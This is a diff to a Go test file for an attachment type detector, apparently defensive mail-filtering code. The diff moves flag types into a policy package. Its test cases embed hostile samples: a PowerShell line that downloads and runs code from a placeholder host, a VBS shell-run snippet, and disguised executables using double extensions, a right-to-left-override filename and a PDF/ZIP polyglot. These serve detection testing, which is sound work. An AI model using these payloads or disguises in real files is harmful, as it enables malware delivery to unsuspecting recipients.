@@ -6,6 +6,8 @@ import (
 	"encoding/binary"
 	"strings"
 	"testing"
+
+	"mugai/policy"
 )
 
 // buildZip writes a zip with the given members; encrypted sets the flag bit
@@ -52,7 +54,7 @@ func TestDetect(t *testing.T) {
 		declared string
 		names    []string
 		typ      string
-		flags    []Flag
+		flags    []policy.Flag
 	}{
 		// honest files
 		{"pdf", []byte("%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF"), "application/pdf", []string{"a.pdf"}, TypePDF, nil},
@@ -62,22 +64,22 @@ func TestDetect(t *testing.T) {
 		{"csv", []byte("name,qty\nりんご,10\nみかん,20\n"), "text/csv", []string{"a.csv"}, TypeCSV, nil},
 		{"text starting with MZ", []byte("MZ is not a header here, just text.\n"), "text/plain", []string{"a.txt"}, TypeText, nil},
 		// what mimetype misses
-		{"docm named docm", docm, TypeDOCM, []string{"a.docm"}, TypeDOCM, []Flag{FlagMacro}},
-		{"encrypted zip (PPAP)", buildZip(t, true, "a.pdf", "x"), "application/zip", []string{"a.zip"}, TypeZIP, []Flag{FlagEncrypted}},
+		{"docm named docm", docm, TypeDOCM, []string{"a.docm"}, TypeDOCM, []policy.Flag{policy.FlagMacro}},
+		{"encrypted zip (PPAP)", buildZip(t, true, "a.pdf", "x"), "application/zip", []string{"a.zip"}, TypeZIP, []policy.Flag{policy.FlagEncrypted}},
 		{"iso image", iso, "application/octet-stream", []string{"a.iso"}, TypeISO, nil},
 		{"hta", []byte("<html><head><HTA:APPLICATION id=x></head></html>"), "", []string{"a.hta"}, TypeHTA, nil},
 		{"vbs", []byte("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"), "", []string{"a.vbs"}, TypeVBS, nil},
 		{"powershell", []byte("$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x'))"), "", []string{"a.ps1"}, TypePowerShell, nil},
-		{"encrypted pdf", []byte("%PDF-1.6\ntrailer<</Encrypt 5 0 R>>"), "application/pdf", []string{"a.pdf"}, TypePDF, []Flag{FlagEncrypted}},
+		{"encrypted pdf", []byte("%PDF-1.6\ntrailer<</Encrypt 5 0 R>>"), "application/pdf", []string{"a.pdf"}, TypePDF, []policy.Flag{policy.FlagEncrypted}},
 		// disguised files
-		{"exe named pdf", pe(), "application/pdf", []string{"invoice.pdf"}, TypePE, []Flag{FlagDisguised}},
-		{"double extension", pe(), "application/octet-stream", []string{"invoice.pdf.exe"}, TypePE, []Flag{FlagDisguised}},
-		{"rlo", pe(), "", []string{"invoice\u202efdp.exe"}, TypePE, []Flag{FlagDisguised}},
-		{"trailing dots", []byte("%PDF-1.4\n"), "", []string{"a.pdf. . "}, TypePDF, []Flag{FlagDisguised}},
-		{"docm named docx", docm, TypeDOCX, []string{"a.docx"}, TypeDOCM, []Flag{FlagMacro, FlagDisguised}},
-		{"html named txt", []byte("<html><body><script>x()</script></body></html>"), "text/plain", []string{"a.txt"}, TypeHTML, []Flag{FlagDisguised}},
-		{"pdf zip polyglot", append([]byte("%PDF-1.4\n"), buildZip(t, false, "a.exe", "MZ")...), "application/pdf", []string{"a.pdf"}, TypePDF, []Flag{FlagPolyglot}},
-		{"name and filename disagree", []byte("%PDF-1.4\n"), "application/pdf", []string{"a.pdf", "a.exe"}, TypePDF, []Flag{FlagDisguised}},
+		{"exe named pdf", pe(), "application/pdf", []string{"invoice.pdf"}, TypePE, []policy.Flag{policy.FlagDisguised}},
+		{"double extension", pe(), "application/octet-stream", []string{"invoice.pdf.exe"}, TypePE, []policy.Flag{policy.FlagDisguised}},
+		{"rlo", pe(), "", []string{"invoice\u202efdp.exe"}, TypePE, []policy.Flag{policy.FlagDisguised}},
+		{"trailing dots", []byte("%PDF-1.4\n"), "", []string{"a.pdf. . "}, TypePDF, []policy.Flag{policy.FlagDisguised}},
+		{"docm named docx", docm, TypeDOCX, []string{"a.docx"}, TypeDOCM, []policy.Flag{policy.FlagMacro, policy.FlagDisguised}},
+		{"html named txt", []byte("<html><body><script>x()</script></body></html>"), "text/plain", []string{"a.txt"}, TypeHTML, []policy.Flag{policy.FlagDisguised}},
+		{"pdf zip polyglot", append([]byte("%PDF-1.4\n"), buildZip(t, false, "a.exe", "MZ")...), "application/pdf", []string{"a.pdf"}, TypePDF, []policy.Flag{policy.FlagPolyglot}},
+		{"name and filename disagree", []byte("%PDF-1.4\n"), "application/pdf", []string{"a.pdf", "a.exe"}, TypePDF, []policy.Flag{policy.FlagDisguised}},
 	}
 	for _, tc := range tests {
 		r := Detect(tc.data, tc.declared, tc.names)
